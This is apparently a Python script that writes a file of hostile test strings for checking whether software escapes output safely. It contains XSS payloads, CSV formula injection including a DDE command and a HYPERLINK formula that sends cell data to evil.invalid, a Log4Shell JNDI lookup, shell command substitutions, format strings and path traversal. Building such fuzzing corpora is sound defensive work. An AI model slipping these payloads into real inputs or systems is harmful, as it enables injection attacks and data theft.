#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes hostile-strings.jsonl: strings that break those who write HTML, CSV, XML, SVG, Markdown, shell lines, paths or
formats without care, and texts of scripts and signs that are easily damaged; one JSON string a line, the same bytes each time.
Takes the path to write to. What a case holds of them is kept as it is typed, or refused in words."""
import json
import sys

MARKUP = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)", "</title><script>alert(1)</script>",
          "]]><x/>", "<!--", "-->", "&amp;&lt;&#x3c;script&#x3e;", "<b>bold</b> & <i>", "&", "</span>", "<span size='xx-large'>"]
CELLS = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.invalid/?"&A1,"x")', "\t=1+1", "\r=1+1",
         "\n=1+1", "\uff1d1+1", '"=1+1"', "'=1+1", " =1+1", 'a,"b";c']
LINKS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
         "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "\\\\evil.invalid\\share\\x",
         "//evil.invalid/x", "https://example.org/x) /S /JavaScript /JS (app.alert\\(1\\)", "https://example.org/) >> endobj",
         "https://example.org/a'b\\c", 'https://example.org/\u00e4 \u00f6<>"{}|^`', "https://user:pw@evil.invalid/",
         "https://example.org\u202e/gpj.exe", "[x](javascript:alert(1))", "![x](file:///etc/passwd)"]
WRITERS = ["`` ` ``", "| a | b |", "# not a heading", "---\ntitle: x\n---", "\\newcommand", "${jndi:ldap://evil.invalid}", "{{7*7}}",
           "%s%s%s%n", "%1$s %2$n", "$(id)", "`id`", "; id", "{", "}", "[", '"', "\\", "/", "~1", "#", "a/b", "a//b", "/a", "a/"]
PATHS = ["../../../../HOSTILE_ESCAPED.txt", "CON", "nul.txt", ".", "..", "~", "-rf", "--help", "-", "0", "-1", "1e999", "null", "true",
         "NaN", " ", "", "  two  ", "id", "x" * 64, "__proto__"]
SIGNS = ["a\x00b", "\x00", "\x08", "\x1b[31mred", "\x7f", "\u0085", "\u2028", "\u2029", "\ufffe", "\ufdd0", "\ufeffx", "\u200b",
         "\u202eabc\u202c", "\u2066x\u2069", "Z\u0351\u036f" * 40, "e\u0301", "\u00e9", "\u1100\u1161\u11a8", "\uff11\uff12\uff13",
         "\u0663\u066b\u0665", "\U0001d518\U0001d52b\U0001d526", "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
         "\U0001f1fa\U0001f1f3", "\ufdfa", "\u0130\u0131\u017f", "\u00df", "\ufb01", "\u0639\u0631\u0628\u064a",
         "\u05e2\u05d1\u05e8\u05d9\u05ea", "\u5317\u65b9\u9818\u571f"]
LONG = ["A" * 5000, "x " * 1000, "\u0928" * 600, "\u65e5" * 600, "line\n" * 300, "W" * 100000]

with open(sys.argv[1], "w", encoding="utf-8") as file:
    for text in MARKUP + CELLS + LINKS + WRITERS + PATHS + SIGNS + LONG:
        file.write(json.dumps(text) + "\n")
    # Half a pair of surrogates is no text in any encoding.
    file.write('"\\ud800"\n"\\udc00\\ud800"\n')
